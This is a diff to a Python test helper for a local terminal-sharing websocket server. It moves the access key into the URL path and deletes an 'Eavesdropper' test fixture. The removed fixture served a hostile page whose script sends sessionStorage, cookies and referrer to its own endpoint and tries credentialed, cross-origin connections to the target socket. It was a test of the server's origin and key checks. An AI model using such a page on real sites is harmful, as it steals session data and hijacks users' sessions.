@@ -36,9 +36,10 @@ class Serving:
         )
         assert self.process.stdout is not None
         self.address = self.process.stdout.readline().strip()
-        self.base, _, self.key = self.address.partition("/#token=")
+        self.origin, _, self.key = self.address.rstrip("/").rpartition("/")
         assert self.key, self.said()
-        self.port = int(self.base.rpartition(":")[2])
+        self.base = self.address.rstrip("/")
+        self.port = int(self.origin.rpartition(":")[2])
 
     async def __aenter__(self) -> Serving:
         from aiohttp import ClientSession
@@ -64,11 +65,8 @@ class Serving:
         return [int(pid) for pid in children]
 
     async def opened(self, **size: int) -> Any:
-        """A socket on which the key was sent."""
-        address = f"{self.base}/ws?{urlencode(size)}"
-        socket = await self.session.ws_connect(address, headers={"Origin": self.base}, max_msg_size=0)
-        await socket.send_json(["key", self.key])
-        return socket
+        """The socket of one viewer."""
+        return await self.session.ws_connect(f"{self.base}/ws?{urlencode(size)}", max_msg_size=0)
 
     async def look(self, **size: int) -> Any:
         """The same, when the screen has been drawn."""
@@ -103,70 +101,10 @@ class Serving:
     def upgrade(self, **size: int) -> bytes:
         """The request that opens the socket, as bytes."""
         return (
-            f"GET /ws?{urlencode(size)} HTTP/1.1\r\nHost: 127.0.0.1:{self.port}\r\nOrigin: {self.base}\r\n"
+            f"GET /{self.key}/ws?{urlencode(size)} HTTP/1.1\r\nHost: 127.0.0.1:{self.port}\r\nOrigin: {self.origin}\r\n"
             "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
             "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
         ).encode()
-
-    async def replay(self, path: str, headers: dict[str, str]) -> int:
-        """The status with which a request for the socket with these headers ends; a close code 4403 counts as 403."""
-        from aiohttp import WSMsgType, WSServerHandshakeError
-
-        kept = {name: value for name, value in headers.items() if name.lower() not in HOP_BY_HOP}
-        query = path.partition("?")[2]
-        try:
-            socket = await self.session.ws_connect(f"{self.base}/ws?{query}", headers=kept)
-        except WSServerHandshakeError as error:
-            return error.status
-        # Whatever could be taken for a key.
-        await socket.send_json(["key", headers.get("Cookie", "") or headers.get("Referer", "")])
-        message = await socket.receive(timeout=60)
-        await socket.close()
-        return int(message.data) - 4000 if message.type is WSMsgType.CLOSE else 200
-
-
-HOP_BY_HOP = {"connection", "upgrade", "sec-websocket-key", "sec-websocket-version", "sec-websocket-extensions"}
-
-
-class Eavesdropper:
-    """Another program on another port of this machine, whose page tries to get at the screen and keeps all it hears."""
-
-    def __init__(self, target: str) -> None:
-        self.heard: list[tuple[str, dict[str, str]]] = []
-        self._target = target
-
-    async def __aenter__(self) -> Eavesdropper:
-        from aiohttp import web
-
-        application = web.Application()
-        application.router.add_get("/{rest:.*}", self._hear)
-        self._runner = web.AppRunner(application)
-        await self._runner.setup()
-        site = web.TCPSite(self._runner, "127.0.0.1", 0)
-        await site.start()
-        self.base = f"http://127.0.0.1:{self._runner.addresses[0][1]}"
-        return self
-
-    async def __aexit__(self, *_: object) -> None:
-        await self._runner.cleanup()
-
-    async def _hear(self, request: Any) -> Any:
-        from aiohttp import web
-
-        self.heard.append((str(request.rel_url), dict(request.headers)))
-        return web.Response(text=PAGE.replace("TARGET", self._target), content_type="text/html")
-
-
-PAGE = """<!DOCTYPE html><title>other</title><body><img src="/image"><iframe src="TARGET/"></iframe><script>
-const socket = (address) => new Promise((done) => { const s = new WebSocket(address); s.onclose = s.onerror = done; });
-(async () => {
-  await fetch("/fetched?" + encodeURIComponent(JSON.stringify(sessionStorage) + document.cookie + document.referrer));
-  await fetch("TARGET/", { credentials: "include" }).catch(() => 0);
-  await socket("TARGET/ws".replace("http", "ws"));
-  await socket("ws://" + location.host + "/ws?width=80&height=24");
-  document.title = "done";
-})();
-</script>"""
 
 
 def frame(message: object) -> bytes:
